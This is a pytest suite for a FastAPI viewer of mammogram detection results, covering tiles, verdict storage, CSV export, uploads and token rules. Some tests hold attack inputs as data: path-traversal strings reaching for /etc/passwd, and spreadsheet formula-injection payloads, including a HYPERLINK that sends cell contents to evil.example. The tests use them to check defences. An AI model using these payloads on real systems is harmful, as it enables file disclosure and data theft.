"""`pipeline serve`: every route through FastAPI's test client, on a run folder that `run_inference` wrote with the
tiny test models (two synthetic images and one real CBIS-DDSM DICOM), plus one result of known boxes (a stand-in
for the detector's output, so the box verdicts do not depend on what the tiny models find)."""
import mammo.runtime  # noqa: F401  (must stay the first import)

import csv
import io
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import cv2
import numpy as np
import pytest
from conftest import REPO, sample_dicom_paths

from mammo.config import load_config
from mammo.synthetic import synthetic_mammogram, write_synthetic_dataset
from pipeline.models import PipelineModels, read_bundle
from pipeline.results import ImageResult, LesionResult, write_result

fastapi = pytest.importorskip("fastapi")
from fastapi.testclient import TestClient  # noqa: E402

from pipeline.serve.app import create_app  # noqa: E402
from pipeline.serve.security import resolve_token  # noqa: E402

KNOWN = "syn007_0000"  # the stand-in result's image id: the one infer and export-rois give its file
SCAN = "scan1"  # a stand-in result (no boxes) over a real full-size DICOM
LOCAL = "http://localhost"  # what a browser on this machine sends; the server answers no other name without token


def write_png(path: Path, seed: int, n_lesions: int, shape=(512, 384)) -> Path:
    m, lesions = synthetic_mammogram(seed, shape=shape, n_lesions=n_lesions)
    path.parent.mkdir(parents=True, exist_ok=True)
    cv2.imwrite(str(path), np.round(m.pixels * 255).astype(np.uint8))
    return path


def write_known(root: Path, run: Path, threshold: float) -> Path:
    """The stand-in result KNOWN: a synthetic image whose result lists its two true lesions as boxes (malignancy
    0.8 and 0.5) and a heatmap with one hot square. Returns the image's annotation CSV."""
    data = write_synthetic_dataset(root / "known", 1, seed=7, n_lesions=2)
    rows = list(csv.DictReader(open(data)))
    # a patient id that shares nothing with the file name, so export-rois with the truth keeps the same image id
    with open(data, "w", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows([{**r, "patient_id": "pt-a"} for r in rows])
    source = data.parent / rows[0]["image"]
    m = cv2.imread(str(source), cv2.IMREAD_GRAYSCALE)
    heat = np.zeros((m.shape[0] // 4 + 1, m.shape[1] // 4 + 1), np.uint16)
    heat[10:30, 10:30] = 65535
    run.mkdir(parents=True, exist_ok=True)
    cv2.imwrite(str(run / f"{KNOWN}_heatmap.png"), heat)
    lesions = [LesionResult([float(r[k]) for k in ("x1", "y1", "x2", "y2")], 0.9 - 0.1 * i, 0.8 - 0.3 * i)
               for i, r in enumerate(rows)]
    write_result(run, ImageResult(KNOWN, str(source), m.shape[1], m.shape[0], 0.8, threshold, "malignant",
                                  lesions, f"{KNOWN}_heatmap.png", "", heatmap_downscale=4))
    return data


@pytest.fixture(scope="module")
def standin(tmp_path_factory):
    """(client, run folder): the app without models over stand-in results of known output: KNOWN and a real
    full-size CBIS-DDSM DICOM (id SCAN) without boxes. Uploads are off; everything else is the real app."""
    from mammo.imaging import read_mammogram

    root = tmp_path_factory.mktemp("standin")
    run = root / "run"
    write_known(root, run, 0.5)
    dicom = sample_dicom_paths()[0]
    h, w = read_mammogram(dicom).shape
    write_result(run, ImageResult(SCAN, str(dicom), w, h, 0.1, 0.5, "not malignant"))
    with TestClient(create_app([run]), base_url=LOCAL) as client:
        yield client, run


@pytest.fixture(scope="module")
def served(tiny_bundle, tmp_path_factory):
    """(client, run folder, models, cfg): the app over one run folder, with the tiny models for uploads."""
    from pipeline.infer import run_inference

    root = tmp_path_factory.mktemp("serve")
    inputs = [write_png(root / "in" / f"case{i}.png", 40 + i, 2) for i in range(2)] + [sample_dicom_paths()[0]]
    bundle = read_bundle(tiny_bundle)
    cfg = load_config(overrides=bundle.config_overrides)
    run = root / "run"
    models = PipelineModels.load(bundle, cfg)
    summary = run_inference(inputs, run, models, cfg, progress=False)
    assert summary["failed"] == 0, summary["failures"]
    data = write_known(root, run, models.threshold)
    app = create_app([run], models, cfg, models.threshold)
    with TestClient(app, base_url=LOCAL) as client:
        yield client, run, models, cfg, data
    models.close()


def ids(client) -> list[str]:
    return [r["image_id"] for r in client.get("/api/images").json()["images"]]


def test_worklist_and_viewer_pages_list_every_image_without_source_paths(served):
    client, run, *_ = served
    images = client.get("/api/images").json()["images"]
    assert len(images) == 4 and KNOWN in ids(client)
    assert [r["score"] for r in images] == sorted((r["score"] for r in images), reverse=True)
    page = client.get("/")
    assert page.status_code == 200
    for r in images:
        assert f'data-href="/view/0/{r["image_id"]}"' in page.text
        viewer = client.get(f"/view/0/{r['image_id']}")
        assert viewer.status_code == 200 and "openseadragon.min.js" in viewer.text
        info = client.get(f"/api/images/0/{r['image_id']}").json()
        assert "source" not in info and info["width"] == r["width"]
        # inferred PNGs and a Secondary Capture that does not say: film by the default setting (KNOWN is written by
        # hand, without a domain)
        if r["image_id"] != KNOWN:
            assert (info["domain"], info["domain_source"]) == ("film", "setting") and info["domain_reason"]
    # nothing names the input files (their names may carry patient identifiers), not even the real DICOM's
    import pydicom

    patient = str(pydicom.dcmread(sample_dicom_paths()[0], stop_before_pixels=True).PatientID)
    assert patient
    for text in (page.text, client.get("/api/images").text, client.get(f"/api/images/0/{KNOWN}").text):
        assert str(run.parent) not in text and "in/case0" not in text and patient not in text
    assert client.get("/static/vendor/openseadragon/openseadragon.min.js").status_code == 200


@pytest.mark.parametrize("url", ["/view/0/nope", "/api/images/0/nope", "/api/tiles/0/nope/0/0_0.jpg",
                                 "/api/thumb/0/nope.jpg", "/api/heatmap/0/nope.png", "/api/verdicts/0/nope",
                                 "/view/7/syn007_0000", "/api/images/-1/syn007_0000", "/runs/3/verdicts.csv",
                                 "/api/jobs/0123456789abcdef", "/view/0/.hidden", "/api/images/x/syn007_0000"])
def test_unknown_run_image_or_job_is_404(standin, url):
    assert standin[0].get(url).status_code in (404, 422)  # 422: a run that is not a number


def test_tiles_form_the_pyramid_and_apply_the_window(standin):
    client, run, *_ = standin
    from pipeline.results import read_result

    r = read_result(run / f"{KNOWN}.json")
    info = client.get(f"/api/images/0/{KNOWN}").json()
    top = info["max_level"]
    assert 2 ** (top - 1) < max(r.width, r.height) <= 2 ** top
    original = cv2.imread(r.source, cv2.IMREAD_GRAYSCALE).astype(np.float32)
    tile = client.get(f"/api/tiles/0/{KNOWN}/{top}/0_0.jpg")
    assert tile.status_code == 200 and tile.headers["content-type"] == "image/jpeg"
    pixels = cv2.imdecode(np.frombuffer(tile.content, np.uint8), cv2.IMREAD_GRAYSCALE).astype(np.float32)
    assert pixels.shape == (256, 256)
    assert np.abs(pixels - original[:256, :256]).mean() < 3  # identity window, JPEG-close to the original
    narrow = client.get(f"/api/tiles/0/{KNOWN}/{top}/0_0.jpg", params={"c": 0.4, "w": 0.2})
    windowed = cv2.imdecode(np.frombuffer(narrow.content, np.uint8), cv2.IMREAD_GRAYSCALE).astype(np.float32)
    expected = np.clip((original[:256, :256] / 255 - 0.3) / 0.2, 0, 1) * 255  # window 0.3..0.5 stretched
    assert np.abs(windowed - expected).mean() < 4 and np.abs(windowed - pixels).mean() > 10
    last = client.get(f"/api/tiles/0/{KNOWN}/0/0_0.jpg")  # level 0: the whole image in one pixel
    assert cv2.imdecode(np.frombuffer(last.content, np.uint8), cv2.IMREAD_GRAYSCALE).shape == (1, 1)
    cols = -(-r.width // 256)
    assert client.get(f"/api/tiles/0/{KNOWN}/{top}/{cols}_0.jpg").status_code == 404
    assert client.get(f"/api/tiles/0/{KNOWN}/{top + 1}/0_0.jpg").status_code == 404
    for bad in ({"c": 2}, {"w": 0}, {"c": "nan"}, {"w": "inf"}):
        assert client.get(f"/api/tiles/0/{KNOWN}/{top}/0_0.jpg", params=bad).status_code == 422


def test_full_size_dicom_tiles_and_thumbnail(standin):
    client, run, *_ = standin
    dicom_id = SCAN
    info = client.get(f"/api/images/0/{dicom_id}").json()
    assert info["width"] * info["height"] > 5_000_000  # a full-size scan, not a downscaled copy
    tile = client.get(f"/api/tiles/0/{dicom_id}/{info['max_level']}/3_5.jpg")
    assert tile.status_code == 200
    thumb = client.get(f"/api/thumb/0/{dicom_id}.jpg")
    small = cv2.imdecode(np.frombuffer(thumb.content, np.uint8), cv2.IMREAD_GRAYSCALE)
    assert small.shape[0] == 160 and abs(small.shape[1] / 160 - info["width"] / info["height"]) < 0.02
    assert (run / ".serve" / "thumbs" / f"{dicom_id}.jpg").is_file()  # cached for the next worklist load


def test_an_original_that_moved_is_a_clear_404_without_its_path(tmp_path):
    gone = tmp_path / "gone"
    gone.mkdir()
    write_result(gone, ImageResult("moved", "/nowhere/Mass_P_01234_LEFT.dcm", 300, 200, 0.1, 0.5, "not malignant"))
    client = TestClient(create_app([gone]), base_url=LOCAL)
    assert client.get("/").status_code == 200 and client.get("/view/0/moved").status_code == 200
    for url in ("/api/tiles/0/moved/0/0_0.jpg", "/api/thumb/0/moved.jpg", "/api/heatmap/0/moved.png"):
        r = client.get(url)
        assert r.status_code == 404 and "01234" not in r.text, (url, r.text)
    assert "file not found" in client.get("/api/tiles/0/moved/0/0_0.jpg").json()["detail"]


def test_tiles_and_thumbnails_decode_within_run_max_pixels(tmp_path):
    run = tmp_path / "run"
    run.mkdir()
    source = write_png(tmp_path / "scan.png", 3, 0, shape=(200, 150))
    write_result(run, ImageResult("scan", str(source), 150, 200, 0.1, 0.5, "not malignant"))
    small = load_config(overrides=["run.max_pixels=20000", "pipeline.id_salt=test"])
    client = TestClient(create_app([run], cfg=small), base_url=LOCAL)
    for url in ("/api/tiles/0/scan/8/0_0.jpg", "/api/thumb/0/scan.jpg"):
        r = client.get(url)
        assert r.status_code == 404 and "max_pixels=20,000" in r.json()["detail"], (url, r.text)
    roomy = load_config(overrides=["pipeline.id_salt=test"])
    assert TestClient(create_app([run], cfg=roomy), base_url=LOCAL).get("/api/thumb/0/scan.jpg").status_code == 200


def test_results_with_ids_unfit_for_urls_and_file_names_are_not_listed(tmp_path):
    """A run folder may hold JSON files infer did not write: an id with a path in it, a hidden name or spaces
    is not listed (ids end up in URLs and in thumbnail file names), and so cannot be asked for; every id infer
    gives (pipeline.ids) is."""
    run = tmp_path / "run"
    write_result(run, ImageResult("fine_1", "/nowhere/a.png", 30, 20, 0.1, 0.5, "not malignant"))
    for bad in ("../../escape", ".hidden", "two words"):
        data = json.loads((run / "fine_1.json").read_text())
        (run / f"placed{len(bad)}.json").write_text(json.dumps({**data, "image_id": bad}))
    from pipeline.ids import image_id_for

    written = [image_id_for(f"/x/{name}.png") for name in ("-scan", "left_cc_" + "x" * 140)]  # as infer names them
    for image_id in written:
        write_result(run, ImageResult(image_id, "/nowhere/b.png", 30, 20, 0.1, 0.5, "not malignant"))
    client = TestClient(create_app([run]), base_url=LOCAL)
    assert sorted(ids(client)) == sorted(["fine_1", *written])  # every result infer writes is listed
    assert client.get("/api/images/0/two%20words").status_code == 404
    assert client.get("/api/images/0/.hidden").status_code == 404


def test_heatmap_is_coloured_with_alpha_where_the_map_is_zero(standin):
    client, *_ = standin
    png = client.get(f"/api/heatmap/0/{KNOWN}.png")
    bgra = cv2.imdecode(np.frombuffer(png.content, np.uint8), cv2.IMREAD_UNCHANGED)
    assert bgra.ndim == 3 and bgra.shape[2] == 4
    assert bgra[20, 20, 3] == 255 and bgra[60, 60, 3] == 0


def test_path_traversal_is_refused(standin, tmp_path):
    client, run, *_ = standin
    assert client.get(f"/runs/0/files/{KNOWN}_heatmap.png").status_code == 200
    outside = tmp_path / "secret.png"
    cv2.imwrite(str(outside), np.zeros((4, 4), np.uint8))
    (run / "link.png").symlink_to(outside)
    (run / "sub").mkdir(exist_ok=True)
    (run / "sub" / "up.png").symlink_to(run.parent / "known" / "images" / f"{KNOWN}.png")
    up = f"known/images/{KNOWN}.png"  # the source image, beside the run folder
    attempts = [f"../{up}", "..%2F" + up.replace("/", "%2F"), "%2e%2e/%2e%2e/etc/passwd", "..%252F" + up,
                "/etc/passwd", "%2Fetc%2Fpasswd", str(outside).lstrip("/"), "link.png", "sub/up.png",
                f"{KNOWN}.json", "predictions.csv", ".serve/verdicts.sqlite", "sub/../link.png",
                "..\\" + up.replace("/", "\\"), "x%00.png"]
    for name in attempts:
        r = client.get(f"/runs/0/files/{name}")
        assert r.status_code == 404, (name, r.status_code)
    for url in ["/api/thumb/0/..%2F..%2Fknown%2Fimages%2Fx.jpg", f"/api/images/0/..%2F{KNOWN}",
                "/view/0/%2Fetc%2Fpasswd"]:
        assert client.get(url).status_code == 404, url


def test_verdicts_round_trip_two_tabs_and_csv(standin):
    client, run, *_ = standin

    def save(body):
        return client.post(f"/api/verdicts/0/{KNOWN}", json=body)

    # two tabs of the same reader at the same time, each sending only what it changed
    bodies = [{"reader": "Dr A", "boxes": {"0": {"lesion": "true lesion", "pathology": "malignant"}}},
              {"reader": "Dr A", "boxes": {"1": {"lesion": "false positive"}},
               "image": {"agreement": "disagree", "comment": "box 2 is a vessel, \"quoted\", comma"}}]
    results = [None, None]
    threads = [threading.Thread(target=lambda i=i: results.__setitem__(i, save(bodies[i]))) for i in range(2)]
    [t.start() for t in threads]
    [t.join() for t in threads]
    assert [r.status_code for r in results] == [200, 200]
    assert save({"reader": "Dr B", "boxes": {"0": {"lesion": "unsure"}}}).status_code == 200
    assert save({"reader": "Dr A", "boxes": {"0": {"pathology": "benign"}}}).status_code == 200  # a change of mind
    current = {(v["reader"], v["box"]): v for v in client.get(f"/api/verdicts/0/{KNOWN}").json()["verdicts"]}
    assert current["Dr A", 0]["lesion"] == "true lesion" and current["Dr A", 0]["pathology"] == "benign"
    assert current["Dr A", 1]["lesion"] == "false positive" and current["Dr A", -1]["agreement"] == "disagree"
    assert current["Dr B", 0]["lesion"] == "unsure"
    export = client.get("/runs/0/verdicts.csv")
    assert export.status_code == 200 and "attachment" in export.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(export.text)))
    a0 = next(r for r in rows if r["reader"] == "Dr A" and r["box"] == "1")
    assert (a0["lesion"], a0["pathology"], a0["malignancy"]) == ("true lesion", "benign", "0.8")
    image_row = next(r for r in rows if r["reader"] == "Dr A" and r["box"] == "")
    assert image_row["comment"] == 'box 2 is a vessel, "quoted", comma'
    assert all(str(run.parent) not in line for line in export.text.splitlines())
    worklist_row = next(r for r in client.get("/api/images").json()["images"] if r["image_id"] == KNOWN)
    assert worklist_row["reviewed"]


def test_verdict_csv_neutralises_formulas_but_not_our_numbers(tmp_path):
    """Text a reader typed that a spreadsheet would run as a formula gets a leading ' in verdicts.csv (rows end in
    CRLF); numbers we write (a negative box coordinate) stay numbers; the JSON API keeps the text as typed."""
    run = tmp_path / "run"
    write_result(run, ImageResult("-scan", "/nowhere/a.png", 300, 200, 0.9, 0.5, "malignant",
                                  [LesionResult([-2.5, 3.0, 40.0, 50.0], 0.9, 0.7)]))
    client = TestClient(create_app([run]), base_url=LOCAL)
    evil = '=HYPERLINK("http://evil.example/?"&A2,"click")'
    saves = [{"reader": evil, "boxes": {"0": {"lesion": "true lesion"}}, "image": {"comment": "=1+1"}},
             {"reader": "@SUM(A1)", "image": {"comment": "\tcmd"}}, {"reader": "+x", "image": {"comment": "\r1"}},
             {"reader": "Dr -", "image": {"comment": "-2 cm, fine"}}]
    for body in saves:
        assert client.post("/api/verdicts/0/-scan", json=body).status_code == 200
    text = client.get("/runs/0/verdicts.csv").text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 5 and text.endswith("\r\n") and text.count("\r\n") == 1 + 5  # the header and each row
    box = next(r for r in rows if r["box"] == "1")
    assert box["reader"] == "'" + evil and box["image_id"] == "'-scan"
    assert (box["x1"], box["y1"], box["malignancy"]) == ("-2.5", "3.0", "0.7")  # ours: numbers, not mangled
    comments = {r["reader"]: r["comment"] for r in rows if r["box"] == ""}
    assert comments == {"'" + evil: "'=1+1", "'@SUM(A1)": "'\tcmd", "'+x": "'\r1", "Dr -": "'-2 cm, fine"}
    stored = {v["reader"]: v["comment"] for v in client.get("/api/verdicts/0/-scan").json()["verdicts"]
              if v["box"] < 0}
    assert stored[evil] == "=1+1" and stored["+x"] == "\r1"  # the store keeps what was typed


@pytest.mark.parametrize("body,status", [
    ({"reader": "", "boxes": {"0": {"lesion": "unsure"}}}, 422),
    ({"reader": "x" * 81, "image": {"agreement": "agree"}}, 422),
    ({"reader": "Dr C", "boxes": {"0": {"lesion": "cancer"}}}, 422),
    ({"reader": "Dr C", "boxes": {"0": {"colour": "red"}}}, 422),
    ({"reader": "Dr C", "boxes": {"9": {"lesion": "unsure"}}}, 422),
    ({"reader": "Dr C", "boxes": {"zero": {"lesion": "unsure"}}}, 422),
    ({"reader": "Dr C", "boxes": ["x"]}, 422),
    ({"reader": "Dr C", "image": {"agreement": "maybe"}}, 422),
    ({"reader": "Dr C", "image": {"comment": "x" * 4001}}, 422),
    ({"reader": "Dr C"}, 422),
])
def test_bad_verdicts_are_refused_and_change_nothing(standin, body, status):
    client = standin[0]
    before = client.get(f"/api/verdicts/0/{KNOWN}").json()
    assert client.post(f"/api/verdicts/0/{KNOWN}", json=body).status_code == status
    assert client.get(f"/api/verdicts/0/{KNOWN}").json() == before


def test_verdict_needs_json(standin):
    client = standin[0]
    r = client.post(f"/api/verdicts/0/{KNOWN}", data={"reader": "x"})
    assert r.status_code == 415
    r = client.post(f"/api/verdicts/0/{KNOWN}", content=b"{not json", headers={"content-type": "application/json"})
    assert r.status_code == 422


def test_an_oversized_verdict_body_is_refused_before_parsing(standin):
    client = standin[0]
    before = client.get(f"/api/verdicts/0/{KNOWN}").json()
    body = json.dumps({"reader": "Dr Big", "image": {"comment": "x"}, "padding": "x" * 300_000}).encode()
    r = client.post(f"/api/verdicts/0/{KNOWN}", content=body, headers={"content-type": "application/json"})
    assert r.status_code == 413 and "256 KB" in r.json()["detail"]
    chunked = client.post(f"/api/verdicts/0/{KNOWN}", content=iter([body[:100_000], body[100_000:]]),
                          headers={"content-type": "application/json"})  # no Content-Length: counted as read
    assert chunked.status_code == 413
    assert client.get(f"/api/verdicts/0/{KNOWN}").json() == before


def test_verdicts_fill_export_rois_review_label(served, tmp_path):
    client, run, models, cfg, data = served
    from mammo.annotations import read_annotations
    from pipeline.export import export_rois
    from pipeline.ids import image_id_for
    from pipeline.serve.verdicts import review_labels

    source = data.parent / next(csv.DictReader(open(data)))["image"]
    assert image_id_for(source, cfg.pipeline.image_id, cfg.pipeline.id_salt) == KNOWN
    client.post(f"/api/verdicts/0/{KNOWN}", json={"reader": "Dr R", "boxes": {"1": {
        "lesion": "true lesion", "pathology": "malignant"}}})
    box = client.get(f"/api/images/0/{KNOWN}").json()["lesions"][1]["box"]
    assert review_labels([run])(KNOWN, box) == "true lesion/malignant"
    client.post(f"/api/verdicts/0/{KNOWN}", json={"reader": "Dr S", "boxes": {"1": {"lesion": "unsure"}}})
    label = review_labels([run])
    assert label(KNOWN, box) == "true lesion/malignant (Dr R); unsure/? (Dr S)"  # two readers: both, named
    assert label(KNOWN, [0, 0, 5, 5]) == "" and label("other", box) == ""
    # through export-rois: its true-lesion rows carry the same boxes as the stand-in's
    out = tmp_path / "review"
    export_rois([], out, models, cfg, read_annotations("csv", data), progress=False, review=label)
    rows = [r for r in csv.DictReader(open(out / "rois.csv")) if r["kind"] == "true"]
    matched = [r for r in rows if np.allclose([float(r[k]) for k in ("x1", "y1", "x2", "y2")], box, atol=0.1)]
    assert len(matched) == 1 and matched[0]["review_label"] == label(KNOWN, box)
    assert all(r["review_label"] == "" for r in rows if r is not matched[0])


def upload(client, name: str, content: bytes, run: int = 0):
    return client.post("/api/upload", files={"file": (name, content)}, data={"run": str(run)})


def wait_job(client, job_id: str, timeout: float = 120) -> dict:
    end = time.time() + timeout
    while time.time() < end:
        job = client.get(f"/api/jobs/{job_id}").json()
        if job["status"] in ("done", "failed"):
            return job
        time.sleep(0.2)
    raise AssertionError(f"job {job_id} did not finish in {timeout} s")


def test_upload_runs_the_pipeline_and_keeps_the_run(served, tmp_path):
    client, run, *_ = served
    before = list(csv.DictReader(open(run / "predictions.csv")))
    listed = dict(client.app.state.runs.runs[0].results)
    png = write_png(tmp_path / "Mass-Test_P_00820_LEFT_CC.png", 77, 1)  # a name with a patient id in it
    r = upload(client, png.name, png.read_bytes())
    assert r.status_code == 200, r.text
    job = wait_job(client, r.json()["id"])
    assert job["status"] == "done", job
    new_id = job["image_id"]
    assert "00820" not in new_id and new_id in ids(client)
    assert client.get(f"/view/0/{new_id}").status_code == 200
    now = client.app.state.runs.runs[0].results  # the new result read, the others not read again
    assert set(now) == set(listed) | {new_id} and all(now[k] is v for k, v in listed.items())
    after = list(csv.DictReader(open(run / "predictions.csv")))
    assert [r["image_id"] for r in after] == [r["image_id"] for r in before] + [new_id]
    assert not [p for p in run.rglob("*") if "00820" in p.name]
    assert not list(run.rglob(".*.partial*")) and not list(run.glob(".serve/.queue.*/*"))  # the queued file moved


def test_upload_of_a_dicom_without_extension(served):
    client = served[0]
    r = upload(client, "scan", sample_dicom_paths()[1].read_bytes())
    assert r.status_code == 200, r.text
    assert wait_job(client, r.json()["id"])["status"] == "done"


def test_bad_uploads_are_refused_with_a_message_and_change_nothing(served, monkeypatch):
    client, run, *_ = served
    from pipeline.serve import jobs

    def listing():
        return sorted((str(p.relative_to(run)), p.stat().st_size) for p in run.rglob("*")
                      if p.is_file() and "verdicts.sqlite" not in p.name)

    before = listing()
    png = cv2.imencode(".png", np.zeros((64, 48), np.uint8))[1].tobytes()
    cases = [("notes.png", b"this is a text file, not an image\n", "not a readable image"),
             ("report.pdf", b"%PDF-1.4", "not images this tool reads"),
             ("empty.png", b"", "empty file")]
    for name, content, message in cases:
        r = upload(client, name, content)
        assert r.status_code == 422 and message in r.json()["detail"], (name, r.text)
    # what only decoding tells is found by the worker (it decodes one upload at a time): a failed job
    for name, content, message in [
            ("tiny.png", cv2.imencode(".png", np.zeros((8, 8), np.uint8))[1].tobytes(), "too small"),
            ("fake.dcm", b"\0" * 128 + b"DICM" + b"\0" * 64, "refused"),
            ("notes", b"a text file without extension is read as DICOM\n", "refused")]:
        r = upload(client, name, content)
        assert r.status_code == 200, (name, r.text)
        job = wait_job(client, r.json()["id"])
        assert job["status"] == "failed" and message in job["error"] and "queue" not in job["error"], job
    uploads = client.app.state.uploads
    monkeypatch.setattr(uploads, "max_pixels", 1000)
    r = upload(client, "big.png", png)
    assert r.status_code == 422 and "48 x 64 pixels is more than run.max_pixels" in r.json()["detail"], r.text
    monkeypatch.undo()
    monkeypatch.setattr(jobs, "MAX_UPLOAD_BYTES", 100)
    assert upload(client, "big.png", png).status_code == 422  # counted while streaming
    from pipeline.serve import app as app_module

    monkeypatch.setattr(app_module, "MAX_UPLOAD_BYTES", 100)
    r = client.post("/api/upload", files={"file": ("big.png", b"x" * 200_000)})
    assert r.status_code == 413  # refused from its Content-Length, before reading the body
    r = client.post("/api/upload", data={"run": "0"})
    assert r.status_code == 422 and "no file" in r.json()["detail"]
    r = upload(client, "ok.png", png, run=5)
    assert r.status_code == 404
    assert listing() == before


@pytest.fixture
def held_worker(tmp_path, monkeypatch):
    """(client, uploads, gate): an app whose upload worker waits for `gate.set()` before each job, so a queue
    fills deterministically. Its models are a stand-in: a job decodes its upload, then fails at the models."""
    client = TestClient(create_app([tmp_path / "run"], object(), load_config(), 0.5), base_url=LOCAL)
    uploads, gate = client.app.state.uploads, threading.Event()
    run_job = uploads._run
    monkeypatch.setattr(uploads, "_run", lambda job: (gate.wait(60), run_job(job)))
    yield client, uploads, gate
    gate.set()
    uploads.close()


def test_a_full_upload_queue_answers_busy_and_queued_uploads_are_files_not_pixels(held_worker, tmp_path):
    import tracemalloc

    from pipeline.serve.jobs import MAX_PENDING_UPLOADS

    client, uploads, gate = held_worker
    png = cv2.imencode(".png", np.full((2000, 2000), 128, np.uint8))[1].tobytes()  # 16 MB as float32 pixels
    tracemalloc.start()
    try:
        held = tracemalloc.get_traced_memory()[0]
        queued = [upload(client, "scan.png", png) for _ in range(MAX_PENDING_UPLOADS)]
        held = tracemalloc.get_traced_memory()[0] - held
    finally:
        tracemalloc.stop()
    assert [r.status_code for r in queued] == [200] * MAX_PENDING_UPLOADS
    assert held < 8e6, f"{held / 1e6:.0f} MB held by {MAX_PENDING_UPLOADS} queued uploads"  # decoded: 128 MB
    jobs = [uploads.get(r.json()["id"]) for r in queued]
    for job in jobs:  # a queued job is its file on disk, in a folder only the server's user can read
        assert job.status == "queued" and job.file.read_bytes() == png
        assert not any(isinstance(v, np.ndarray) or hasattr(v, "pixels") for v in vars(job).values())
        assert job.file.parent.stat().st_mode & 0o777 == 0o700
    busy = upload(client, "scan.png", png)
    assert busy.status_code == 503 and busy.headers["retry-after"] == "30", busy.headers
    assert "busy" in busy.json()["detail"] and "retry" in busy.json()["detail"]
    assert len(list(jobs[0].file.parent.iterdir())) == MAX_PENDING_UPLOADS  # the refused one left nothing
    gate.set()
    for job in jobs:  # decoded by the worker, then the stand-in models fail
        done = wait_job(client, job.id)
        assert done["status"] == "failed" and "object" in done["error"] and job.file is None, done
    left = [p for p in (tmp_path / "run" / ".serve").rglob("*") if p.is_file() and "verdicts" not in p.name]
    assert not left  # neither in the queue nor in the run's uploads: no result names them
    assert upload(client, "scan.png", png).status_code == 200  # room again


def test_finished_upload_jobs_are_forgotten(held_worker):
    from pipeline.serve.jobs import FINISHED_JOB_SECONDS, MAX_FINISHED_JOBS, Job

    client, uploads, gate = held_worker
    now = time.time()
    old = [Job(f"old{i}", 0, "done", finished=now - FINISHED_JOB_SECONDS - 60) for i in range(5)]
    recent = [Job(f"recent{i}", 0, "failed", finished=now - i) for i in range(150)]
    waiting = Job("waiting", 0)  # queued (a stand-in: no worker will take it)
    uploads.jobs.update({j.id: j for j in [*old, *recent, waiting]})
    gate.set()
    png = cv2.imencode(".png", np.zeros((64, 48), np.uint8))[1].tobytes()
    new = upload(client, "scan.png", png).json()["id"]
    assert wait_job(client, new)["status"] == "failed"
    finished = [j for j in uploads.jobs.values() if j.finished]
    assert len(finished) == MAX_FINISHED_JOBS and all(now - j.finished < FINISHED_JOB_SECONDS for j in finished)
    assert {new, "waiting", "recent0"} <= set(uploads.jobs) and "recent99" not in uploads.jobs
    assert client.get("/api/jobs/old0").status_code == 404


# The real server in a process of its own, with stand-in models: an upload makes the queue folder, then fails in
# the worker (there is nothing to run it), which is all these tests need.
STANDIN_SERVER = """
import mammo.runtime
import sys, types
from mammo.config import load_config
from pipeline.serve import Address, serve
serve([sys.argv[1]], types.SimpleNamespace(), load_config(None, []), 0.5, Address("127.0.0.1", int(sys.argv[2]), None))
"""


def start_server(run: Path) -> tuple[subprocess.Popen, str]:
    """(process, its URL) once it answers."""
    import httpx

    url = f"http://127.0.0.1:{free_port()}"
    proc = subprocess.Popen([sys.executable, "-c", STANDIN_SERVER, str(run), url.rsplit(":", 1)[1]], cwd=REPO,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    end = time.time() + 180
    while time.time() < end:
        try:
            if httpx.get(f"{url}/api/images", timeout=2).status_code == 200:
                return proc, url
        except httpx.HTTPError:
            time.sleep(0.3)
        assert proc.poll() is None, proc.stdout.read()
    proc.kill()
    raise AssertionError("server did not start")


def upload_once(url: str, png: bytes) -> dict:
    import httpx

    with httpx.Client(base_url=url, timeout=30) as client:
        job = client.post("/api/upload", files={"file": ("scan.png", png)}, data={"run": "0"}).json()
        return wait_job(client, job["id"])


def test_queue_folders_of_killed_servers_are_removed_at_the_next_start_and_a_live_ones_kept(tmp_path):
    run, png = tmp_path / "run", write_png(tmp_path / "scan.png", 1, 1).read_bytes()
    killed, url = start_server(run)
    try:
        upload_once(url, png)
        [left] = (run / ".serve").glob(".queue.*")
        (left / "queued.png").write_bytes(png)  # as an upload still waiting when the server died
    finally:
        killed.send_signal(signal.SIGKILL)
        killed.wait()
    assert left.is_dir()  # nothing could remove it
    live, url = start_server(run)
    try:
        assert not left.exists()  # the second server removed the dead one's folder at start-up
        upload_once(url, png)
        [mine] = (run / ".serve").glob(".queue.*")
        # a live server's folder stays; so does another host's (the run folder may be on a shared disk) and one
        # of unknown form; one of a process whose pid is alive but started at another time is stale (a reused pid)
        from pipeline.serve.jobs import queue_prefix, remove_stale_queues

        ours = queue_prefix()  # this test process: alive
        reused = run / ".serve" / (ours.rsplit(".", 2)[0] + ".1000.x")
        other_host = run / ".serve" / f".queue.elsewhere.{killed.pid}.1000.y"  # not this host's dead server
        unknown = run / ".serve" / ".queue.abc123"
        for folder in (reused, other_host, unknown):
            folder.mkdir()
        assert remove_stale_queues(run / ".serve") == [reused]  # what a third server would do at start-up
        assert mine.is_dir() and other_host.is_dir() and unknown.is_dir()
    finally:
        live.send_signal(signal.SIGTERM)  # uvicorn shuts down, then exits by the same signal
        live.wait(timeout=60)
    assert not mine.exists()  # a normal shutdown removes the server's own folder


def test_uploads_are_viewable_when_results_hold_no_paths(served, tmp_path):
    """pipeline.source_paths=hashed: the result records a hash, and the server finds its upload by source key."""
    _, _, models, cfg, _ = served
    import dataclasses

    from mammo.config import replace

    hashed = replace(cfg, pipeline=dataclasses.replace(cfg.pipeline, source_paths="hashed"))
    client = TestClient(create_app([tmp_path / "run"], models, hashed, models.threshold), base_url=LOCAL)
    png = write_png(tmp_path / "scan.png", 5, 1)
    job = wait_job(client, upload(client, "scan.png", png.read_bytes()).json()["id"])
    assert job["status"] == "done", job
    result = json.loads((tmp_path / "run" / f"{job['image_id']}.json").read_text())
    assert result["source"].startswith("src_") and "uploads" not in result["source"]
    tile = client.get(f"/api/tiles/0/{job['image_id']}/9/0_0.jpg")
    assert tile.status_code == 200 and tile.headers["content-type"] == "image/jpeg"


def test_token_is_required_beyond_localhost(standin):
    _, run, *_ = standin
    with pytest.raises(ValueError, match="token"):
        resolve_token("0.0.0.0", None)
    with pytest.raises(ValueError, match="at least"):
        resolve_token("0.0.0.0", "short")
    assert resolve_token("127.0.0.1", None) is None and resolve_token("::1", None) is None
